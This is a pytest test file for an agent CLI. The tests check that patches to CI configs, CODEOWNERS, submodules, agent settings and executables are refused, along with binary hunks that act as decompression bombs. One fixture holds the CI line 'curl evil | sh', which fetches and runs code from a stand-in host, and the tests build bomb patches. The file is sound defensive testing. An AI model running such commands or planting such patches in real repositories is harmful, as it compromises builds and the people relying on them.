"""``agentkit invoke --workspace DIR --apply``: protected changes and decompression bombs are refused before git
writes anything; ``--allow-protected`` lets named classes through.

The runtime is a loopback stand-in answering a scripted result (a compromised or buggy runtime); DIR is a real git
work tree and ``git apply`` is the real one.
"""

from __future__ import annotations

import base64
import hashlib
import zlib
from pathlib import Path

import pytest

from agentkit import protected_paths
from agentkit.cli import main
from agentkit.errors import AgentkitError
from agentkit.workspace import MAX_APPLIED_FILE_BYTES, check_inflated_sizes
from harness.sse_runtime import SseRuntimeStandIn
from tests.client.test_cli_workspace import files_of, git, make_repo, new_file, result_with

pytestmark = pytest.mark.timeout(120)


def mode_change(path: str) -> str:
    return f"diff --git a/{path} b/{path}\nold mode 100644\nnew mode 100755\n"


PROTECTED = {
    "workflow": (new_file(".github/workflows/x.yml", "on: push"), "ci_config"),
    "gitlab_ci": (new_file(".gitlab-ci.yml", "test: {script: curl evil | sh}"), "ci_config"),
    "gitlab_ci_include": (new_file(".gitlab/ci/deploy.yml", "deploy: {}"), "ci_config"),
    "composite_action": (new_file(".github/actions/setup/action.yml", "runs: {}"), "ci_action"),
    "codeowners": (new_file(".github/CODEOWNERS", "* @agent"), "code_owners"),
    "gitmodules": (new_file(".gitmodules", "[submodule]"), "submodules"),
    "claude_settings": (new_file(".claude/settings.json", "{}"), "agent_config"),
    "new_executable": (new_file("run.sh", "#!/bin/sh", mode="100755"), "executable"),
    "mode_change": (mode_change("README.md"), "executable"),
}


@pytest.mark.parametrize("name", sorted(PROTECTED))
def test_a_protected_change_is_refused_with_its_class_and_dir_is_unchanged(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    patch, cls = PROTECTED[name]
    repo = make_repo(tmp_path)
    before, status = files_of(repo), git(repo, "status", "--porcelain")
    with SseRuntimeStandIn(result_with(patch)) as server:
        code = main(["invoke", "--local", server.url, "--workspace", str(repo), "--apply", "fix"])
    err = capsys.readouterr().err
    assert code == 1, err
    assert f"patch_refused: {cls}" in err and f"--allow-protected {cls}" in err, err
    assert files_of(repo) == before and git(repo, "status", "--porcelain") == status


def test_an_allowed_class_is_applied(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path)
    patch = PROTECTED["workflow"][0] + PROTECTED["new_executable"][0]
    with SseRuntimeStandIn(result_with(patch)) as server:
        args = ["invoke", "--local", server.url, "--workspace", str(repo), "--apply", "fix"]
        code = main([*args, "--allow-protected", "ci_config,executable"])
    assert code == 0, capsys.readouterr().err
    assert (repo / ".github" / "workflows" / "x.yml").read_text() == "on: push\n"
    assert (repo / "run.sh").stat().st_mode & 0o111


def test_classes_are_matched_where_the_path_lies_in_the_repository(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """DIR is ``.github``: the patch's ``workflows/x.yml`` is the repository's ``.github/workflows/x.yml``."""
    repo = make_repo(tmp_path)
    (repo / ".github").mkdir()
    (repo / ".github" / "README.md").write_text("about\n")
    git(repo, "add", ".github")
    with SseRuntimeStandIn(result_with(new_file("workflows/x.yml", "on: push"))) as server:
        code = main(["invoke", "--local", server.url, "--workspace", str(repo / ".github"), "--apply", "fix"])
    assert code == 1 and "patch_refused: ci_config" in capsys.readouterr().err
    assert not (repo / ".github" / "workflows").exists()


def test_an_unknown_class_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    args = ["invoke", "--local", "http://127.0.0.1:9", "--workspace", ".", "--apply"]
    assert main([*args, "--allow-protected", "ci_config,everything", "hi"]) == 2
    assert "unknown protected-path class everything" in capsys.readouterr().err


# -- decompression bombs ------------------------------------------------------------------------------------------


def _git_base85(data: bytes) -> list[str]:
    """Lines of a ``GIT binary patch`` hunk: a length character, then base85 of up to 52 bytes."""
    lines = []
    for i in range(0, len(data), 52):
        chunk = data[i : i + 52]
        n = len(chunk)
        prefix = chr(ord("A") + n - 1) if n <= 26 else chr(ord("a") + n - 27)
        lines.append(prefix + base64.b85encode(chunk, pad=True).decode())
    return lines


def literal_file(path: str, content: bytes) -> str:
    """A new binary file as git writes it (full index line: git apply requires one for binary patches)."""
    sha = hashlib.sha1(b"blob %d\0" % len(content) + content).hexdigest()
    body = "\n".join(_git_base85(zlib.compress(content, 9)))
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex {'0' * 40}..{sha}\n"
        f"GIT binary patch\nliteral {len(content)}\n{body}\n\nliteral 0\nHcmV?d00001\n\n"
    )


def test_a_binary_hunk_that_inflates_past_the_limit_is_refused_before_anything_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(tmp_path)
    size = MAX_APPLIED_FILE_BYTES + 1024 * 1024
    patch = literal_file("big.bin", bytes(size))  # ~26 MiB of zeros in a ~35 KiB patch
    assert len(patch) < 100_000
    with SseRuntimeStandIn(result_with(patch)) as server:
        code = main(["invoke", "--local", server.url, "--workspace", str(repo), "--apply", "fix"])
    err = capsys.readouterr().err
    assert code == 1 and f"it would write {size} bytes into one file" in err, err
    assert not (repo / "big.bin").exists()


def test_a_binary_hunk_within_the_limit_is_applied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(tmp_path)
    content = bytes(range(256)) * 64
    with SseRuntimeStandIn(result_with(literal_file("small.bin", content))) as server:
        code = main(["invoke", "--local", server.url, "--workspace", str(repo), "--apply", "fix"])
    assert code == 0, capsys.readouterr().err
    assert (repo / "small.bin").read_bytes() == content


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def test_a_delta_is_checked_by_the_size_its_header_names() -> None:
    base = b"x" * 100
    delta = _varint(len(base)) + _varint(1 << 30) + bytes([0x90, 100])  # copy 100 bytes: claims 1 GiB
    lines = "\n".join(_git_base85(zlib.compress(delta)))
    patch = (
        f"diff --git a/a.bin b/a.bin\nindex 1..2 100644\nGIT binary patch\ndelta {len(delta)}\n{lines}\n\n"
    )
    with pytest.raises(AgentkitError, match=f"it would write {1 << 30} bytes"):
        check_inflated_sizes(patch)
    small = _varint(len(base)) + _varint(100) + bytes([0x90, 100])
    ok = "\n".join(_git_base85(zlib.compress(small)))
    check_inflated_sizes(f"diff --git a/a.bin b/a.bin\nGIT binary patch\ndelta {len(small)}\n{ok}\n\n")


def test_many_files_within_the_file_limit_are_bounded_together() -> None:
    patch = "".join(
        f"diff --git a/f{i} b/f{i}\nGIT binary patch\nliteral {MAX_APPLIED_FILE_BYTES}\nzcmeIu0Sy2E0K%a6\n\n"
        for i in range(9)
    )
    with pytest.raises(AgentkitError, match="inflate to more than"):
        check_inflated_sizes(patch)


def test_the_refusal_code_names_the_classes_in_the_tables_order() -> None:
    assert protected_paths.refusal_code({"executable", "ci_config"}) == "patch_refused: ci_config,executable"
